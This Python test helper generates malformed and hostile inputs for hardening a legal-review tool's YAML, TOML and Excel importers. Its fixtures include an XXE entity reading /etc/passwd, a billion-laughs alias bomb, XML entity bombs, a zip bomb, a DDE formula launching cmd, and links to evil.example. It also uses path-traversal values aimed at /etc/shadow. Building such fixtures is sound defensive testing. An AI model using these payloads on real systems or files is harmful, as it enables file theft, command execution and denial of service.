"""Make the corpus inputs that are not committed: wrong encodings, binary junk, a 50 MB file, bombs
and hostile workbooks. ``manifest.toml`` names each by ``generate = "<name>"``.

Files are made at test time (into the test's temporary folder) so that the repository holds no
50 MB file, no binary blobs and nothing an editor or git could silently re-encode.
Everything is deterministic: the random junk comes from a seeded generator.

    python tests/corpus/make_corpus.py OUT_DIR     # write every non-workbook input into OUT_DIR
"""

from __future__ import annotations

import io
import random
import sys
import zipfile
import zlib
from pathlib import Path
from collections.abc import Callable

KENYA = ("# Côte d'Ivoire's neighbour? No: Kenya.\niso3: KEN\nname: Kenya\n"
         "notes: \"Loi n° 2013-451 — « cybercriminalité »\"\n")


# --------------------------------------------------------------------------- YAML and TOML files

def _text(data: bytes) -> Callable[[Path], None]:
    return lambda dest: dest.write_bytes(data)


def _big(dest: Path) -> None:
    """A 50 MB country file: valid YAML (a long comment block) that is simply too large."""
    line = b"# " + b"padding " * 15 + b"\n"
    block = line * (1024 * 1024 // len(line) + 1)
    with open(dest, "wb") as fh:
        fh.write(b"iso3: KEN\nname: Kenya\n")
        for _ in range(50):
            fh.write(block)


def _junk(dest: Path) -> None:
    rng = random.Random(20240610)
    high = bytes(rng.randrange(128, 256) for _ in range(4096))
    dest.write_bytes(high + bytes(rng.randrange(256) for _ in range(4096)))


def _deep_flow(dest: Path) -> None:
    dest.write_bytes(b"iso3: KEN\nname: Kenya\nnotes: " + b"[" * 5000 + b"]" * 5000 + b"\n")


def _deep_block(dest: Path) -> None:
    lines = ["iso3: KEN", "name: Kenya", "notes:"]
    lines += [" " * (2 * i) + f"  k{i}:" for i in range(200)]
    dest.write_text("\n".join(lines) + " deep\n", encoding="utf-8")


def _billion_laughs(dest: Path) -> None:
    lines = ["iso3: KEN", "name: Kenya", 'a0: &a0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    lines += [f"a{i}: &a{i} [" + ", ".join([f"*a{i - 1}"] * 9) + "]" for i in range(1, 12)]
    lines.append("notes: *a11")
    dest.write_text("\n".join(lines) + "\n", encoding="utf-8")


def _big_toml(dest: Path) -> None:
    with open(dest, "wb") as fh:
        fh.write(b'[review]\nname = "Small fixture review"\npublisher = "legalreview tests"\n')
        fh.write((b"# padding padding padding padding padding padding padding\n") * 110_000)


def _many_criteria(dest: Path) -> None:
    """A criteria set with 500 criteria: valid in every other way, more than the charts, tables and
    workbooks carry (the limit is models.MAX_CRITERIA)."""
    lines = ["id: hostile", "title: Hardening corpus set", "version: 1",
             "source: {publisher: legalreview tests, title: Hardening corpus}",
             "scale:", '  - {code: "yes", label: "Yes", points: 1}', '  - {code: "no", label: "No", points: 0}',
             "criteria:"]
    lines += [f'  - {{id: H{i}, short: "Thing {i}", question: "Is thing {i} in law?", guidance: "Look.", '
              f'model_provision: "Text."}}' for i in range(1, 501)]
    dest.write_text("\n".join(lines) + "\n", encoding="utf-8")


_TOML = '[review]\nname = "Revue de la législation — Côte d\'Ivoire"\npublisher = "legalreview tests"\n' \
        '[roster]\nbase = "none"\ninclude = ["KEN", "GBR", "CIV", "FJI", "VAT"]\n'

FILES: dict[str, Callable[[Path], None]] = {
    "utf16le_bom.yaml": _text(b"\xff\xfe" + KENYA.encode("utf-16-le")),
    "utf16be_bom.yaml": _text(b"\xfe\xff" + KENYA.encode("utf-16-be")),
    "utf16le_no_bom.yaml": _text(KENYA.encode("utf-16-le")),
    "utf32le_bom.yaml": _text(b"\xff\xfe\x00\x00" + KENYA.encode("utf-32-le")),
    "latin1.yaml": _text(KENYA.encode("latin-1", errors="replace")),
    "cp1252_quotes.yaml": _text("iso3: KEN\nname: Kenya\nnotes: \u201csmart quotes\u201d\n".encode("cp1252")),
    "overlong_utf8_slash.yaml": _text(b"iso3: KEN\nname: Kenya\nnotes: ..\xc0\xaf..\xc0\xafetc\n"),
    "utf8_surrogate.yaml": _text(b"iso3: KEN\nname: Kenya\nnotes: \xed\xa0\x80\n"),
    "nul_byte.yaml": _text(b"iso3: KEN\nname: Ken\x00ya\n"),
    "binary_junk.yaml": _junk,
    "png_renamed.yaml": _text(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(64)),
    "gzip_renamed.yaml": _text(zlib.compress(KENYA.encode("utf-8"))),
    "big_50mb.yaml": _big,
    "deep_flow.yaml": _deep_flow,
    "deep_block.yaml": _deep_block,
    "billion_laughs.yaml": _billion_laughs,
    "bom_utf8.yaml": _text(b"\xef\xbb\xbf" + KENYA.encode("utf-8")),
    "review_latin1.toml": _text(_TOML.encode("latin-1", errors="replace")),
    "review_utf16.toml": _text(b"\xff\xfe" + _TOML.encode("utf-16-le")),
    "review_big.toml": _big_toml,
    "raw_escape.yaml": _text(b"iso3: KEN\nname: Kenya\nnotes: \"\x1b[2J\x1b[Hcleared\"\n"),
    "criteria_500.yaml": _many_criteria,
}


# --------------------------------------------------------------------------- workbooks

def _rezip(export: Path, dest: Path, replace: dict[str, bytes] | None = None,
           add: dict[str, bytes] | None = None, drop: tuple[str, ...] = ()) -> None:
    with zipfile.ZipFile(export) as src, zipfile.ZipFile(dest, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            if info.filename in drop:
                continue
            dst.writestr(info.filename, (replace or {}).get(info.filename, src.read(info.filename)))
        for name, data in (add or {}).items():
            dst.writestr(name, data)


def _part(export: Path, name: str) -> bytes:
    with zipfile.ZipFile(export) as src:
        return src.read(name)


def _with_dtd(xml: bytes, dtd: bytes) -> bytes:
    if xml.startswith(b"<?xml"):
        head, rest = xml.split(b"?>", 1)
        return head + b"?>" + dtd + rest
    return dtd + xml


def _xxe(export: Path, dest: Path) -> None:
    """The data sheet declares an external entity that would read /etc/passwd into a cell."""
    dtd = b'<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    sheet = _part(export, "xl/worksheets/sheet2.xml")
    sheet = _with_dtd(sheet, dtd).replace(b"<t>Kenya</t>", b"<t>&xxe;</t>", 1)
    _rezip(export, dest, {"xl/worksheets/sheet2.xml": sheet})


def _bomb_in_workbook_part(export: Path, dest: Path) -> None:
    dtd = (b'<!DOCTYPE workbook [<!ENTITY a "aaaaaaaaaa">'
           + b"".join(b'<!ENTITY %s "%s">' % (bytes([98 + i]), (b"&%s;" % bytes([97 + i])) * 10) for i in range(8))
           + b"]>")
    _rezip(export, dest, {"xl/workbook.xml": _with_dtd(_part(export, "xl/workbook.xml"), dtd)})


def _utf16_bomb(export: Path, dest: Path) -> None:
    """The data sheet re-encoded as UTF-16 with an entity bomb: a byte scan for '<!DOCTYPE' misses it."""
    dtd = (b'<!DOCTYPE worksheet [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
           b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>')
    sheet = _part(export, "xl/worksheets/sheet2.xml")
    if sheet.startswith(b"<?xml"):
        sheet = sheet.split(b"?>", 1)[1]
    xml = b'<?xml version="1.0" encoding="UTF-16"?>' + dtd + sheet.replace(b"<t>Kenya</t>", b"<t>&c;</t>", 1)
    utf16 = b"\xff\xfe" + xml.decode("utf-8").encode("utf-16-le")
    _rezip(export, dest, {"xl/worksheets/sheet2.xml": utf16})


def _zip_bomb_deep(export: Path, dest: Path) -> None:
    """A 64 MB run of spaces squeezed into a few kB, as a worksheet part."""
    raw = io.BytesIO()
    with zipfile.ZipFile(export) as src, zipfile.ZipFile(raw, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as dst:
        for info in src.infolist():
            dst.writestr(info.filename, src.read(info.filename))
        with dst.open("xl/worksheets/sheet99.xml", "w") as fh:
            chunk = b" " * (1 << 20)
            for _ in range(64):
                fh.write(chunk)
    dest.write_bytes(raw.getvalue())


def _truncated(export: Path, dest: Path) -> None:
    data = export.read_bytes()
    dest.write_bytes(data[: len(data) // 2])


def _corrupt_member(export: Path, dest: Path) -> None:
    """A workbook whose data sheet's compressed bytes were damaged (a bad download): CRC fails."""
    data = bytearray(export.read_bytes())
    with zipfile.ZipFile(export) as src:
        info = next(i for i in src.infolist() if i.filename == "[Content_Types].xml")
    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    for offset in range(start + 8, start + min(info.compress_size, 64)):
        data[offset] ^= 0x5A
    dest.write_bytes(bytes(data))


def _too_many_parts(export: Path, dest: Path) -> None:
    _rezip(export, dest, add={f"customXml/item{i}.xml": b"<a/>" for i in range(2100)})


def _oversize(export: Path, dest: Path) -> None:
    """A 25 MB file starting like a zip (sparse: it takes no disk space)."""
    with open(dest, "wb") as fh:
        fh.write(b"PK\x03\x04")
        fh.truncate(25 * 1024 * 1024)


def _vba_renamed(export: Path, dest: Path) -> None:
    _rezip(export, dest, add={"xl/VBAProject.BIN": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 Attribute VB_Name"})


def _macro_content_type(export: Path, dest: Path) -> None:
    types = _part(export, "[Content_Types].xml").replace(
        b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        b"application/vnd.ms-excel.sheet.macroEnabled.main+xml")
    _rezip(export, dest, {"[Content_Types].xml": types})


def _external_link(export: Path, dest: Path) -> None:
    link = (b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            b'<externalBook r:id="rId1" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
            b'relationships"/></externalLink>')
    rels = (b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            b'externalLinkPath" Target="file:///\\\\evil.example\\share\\steal.xlsx" TargetMode="External"/>'
            b"</Relationships>")
    _rezip(export, dest, add={"xl/externalLinks/externalLink1.xml": link,
                              "xl/externalLinks/_rels/externalLink1.xml.rels": rels})


def _copy(export: Path, dest: Path) -> None:
    dest.write_bytes(export.read_bytes())


def _empty_zip(export: Path, dest: Path) -> None:
    with zipfile.ZipFile(dest, "w"):
        pass


def _png(export: Path, dest: Path) -> None:
    dest.write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(256))


def _cells(changes: dict[str, object]) -> Callable[[Path, Path], None]:
    def make(export: Path, dest: Path) -> None:
        import openpyxl

        book = openpyxl.load_workbook(export)
        sheet = book["csam"]
        for ref, value in changes.items():
            sheet[ref] = value
        book.save(dest)
    return make


#: workbook cases: name -> make(fresh export of the small fixture's csam set, destination)
WORKBOOKS: dict[str, Callable[[Path, Path], None]] = {
    "xxe.xlsx": _xxe,
    "bomb-in-workbook-part.xlsx": _bomb_in_workbook_part,
    "utf16-entity-bomb.xlsx": _utf16_bomb,
    "zip-bomb-64mb.xlsx": _zip_bomb_deep,
    "truncated.xlsx": _truncated,
    "corrupt-member.xlsx": _corrupt_member,
    "too-many-parts.xlsx": _too_many_parts,
    "oversize.xlsx": _oversize,
    "binary.xlsb": _copy,
    "template-with-macros.xltm": _copy,
    "vba-renamed.xlsx": _vba_renamed,
    "macro-content-type.xlsx": _macro_content_type,
    "external-link-path.xlsx": _external_link,
    "empty-zip.xlsx": _empty_zip,
    "picture.xlsx": _png,
    "hyperlink-formula.xlsx": _cells({"D2": '=HYPERLINK("http://evil.example/","yes")'}),
    "dde-formula.xlsx": _cells({"F3": "=cmd|' /C calc'!A0"}),
    "iso3-path.xlsx": _cells({"A2": "../../etc/passwd", "B2": None}),
    "evidence-path.xlsx": _cells({"D2": "yes", "E2": "../../etc/shadow"}),
    "blank-country.xlsx": _cells({"A2": None, "B2": None, "F2": "A note on a row with no country."}),
}


def make(name: str, dest: Path, export: Path | None = None) -> Path:
    """Write the corpus input ``name`` to ``dest`` (workbooks need a fresh ``export``) and return dest."""
    dest.parent.mkdir(parents=True, exist_ok=True)
    if name in FILES:
        FILES[name](dest)
    elif name in WORKBOOKS:
        if export is None:
            raise ValueError(f"{name} is made from an exported workbook; pass export=")
        WORKBOOKS[name](export, dest)
    else:
        raise KeyError(f"make_corpus has no input named {name!r}")
    return dest


if __name__ == "__main__":  # pragma: no cover
    out = Path(sys.argv[1] if len(sys.argv) > 1 else "corpus-out")
    for file_name in FILES:
        make(file_name, out / file_name)
    print(f"wrote {len(FILES)} files to {out}")
